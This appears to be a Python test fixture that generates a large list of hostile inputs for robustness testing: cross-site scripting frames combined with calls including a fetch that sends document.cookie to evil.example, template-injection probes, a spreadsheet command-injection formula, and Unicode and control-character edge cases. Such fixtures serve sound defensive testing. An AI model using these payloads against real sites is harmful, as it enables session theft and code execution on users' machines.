"""Texts that try to be more than text."""

from itertools import product

_CALLS = ("alert(1)", "fetch('https://evil.example/'+document.cookie)", "document.title='owned'")
_FRAMES = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>',
    "'><img src=x onerror={}>", "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>", "<video><source onerror={}>", "<input autofocus onfocus={}>", "</title><script>{}</script>",
    "</style><script>{}</script>", "</template><script>{}</script>", "</bdi></p><img src=x onerror={}>", "<!--><img src=x onerror={}>",
    "--><script>{}</script>", "]]><script>{}</script>", "<math><mtext></table><script>{}</script>", "<a href='javascript:{}'>x</a>",
    "javascript:{}", "<noscript><p title='</noscript><img src=x onerror={}>'>", "<form><button formaction='javascript:{}'>x",
    "<object data='javascript:{}'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='javascript:{}//'>",
    "<x onclick={}>x</x>", "<style>@import 'https://evil.example/';</style>{}", "<link rel=stylesheet href=https://evil.example/>{}",
    "<textarea></textarea><script>{}</script>", "<select><template shadowrootmode=open><script>{}</script>", "<plaintext>{}",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "<scr\0ipt>{}</scr\0ipt>", "<ScRiPt>{}</sCrIpT>",
    "\u003cscript\u003e{}", "<img/src=x/onerror={}>", "<img src=x onerror=\n{}>", "<svg/onload={}", "<<script>{}//<</script>",
    "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}+ADw-/script+AD4-", "<isindex action='javascript:{}'>",
    "<div style='background:url(javascript:{})'>", "<marquee onstart={}>", "<xss contenteditable autofocus onfocus={}>",
    "<img src='data:image/svg+xml,<svg onload={}>'>", "<embed src='data:text/html,<script>{}</script>'>", "`${{{}}}`",
    "{{{{ {} }}}}", "{{% import os %}}{}", "${{{}}}", "<%= {} %>", "#{{{}}}", "'-{}-'", "\\\";{}//", "';{}//", "\u2028{}\u2029", "\\u003cscript>{}",
)  # fmt: skip
_ODD = (
    "{{7*7}}", "{{config}}", "{{''.__class__.__mro__}}", "{% for x in y %}", "{# x #}", "%s%n%x", "\0", "a\0b", "\x01\x1b[31m\x7f",
    "\ud800", "\udfff x \ud83d", "\ufeffBOM", "\ufffe\uffff", "\u202eabc\u202c", "\u2066\u2067x\u2069", "\u202e</bdi><script>", "שלום עולם",
    "السلام عليكم <b>", "Z" + "\u0351\u0334\u035b" * 300, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1ee\U0001f1e9", "a\r\nb\rc\u0085d\u2028e",
    "<", ">", "&", '"', "'", "`", "&amp;", "&nbsp", "&#0;", "&#xD800;", "&NotEqualTilde;", "=cmd|' /C calc'!A0", "w" * 5000, "x\n" * 2000,
    "NIK 5201012345678901 HP 0812-3456-7890", "\t tab \t", "  dua  spasi  ", "]]>", "<!--", "<!doctype html>", "</html>", "\N{COMBINING ENCLOSING KEYCAP}",
)  # fmt: skip

PAYLOADS = tuple(frame.format(call) for frame, call in product(_FRAMES, _CALLS)) + _ODD
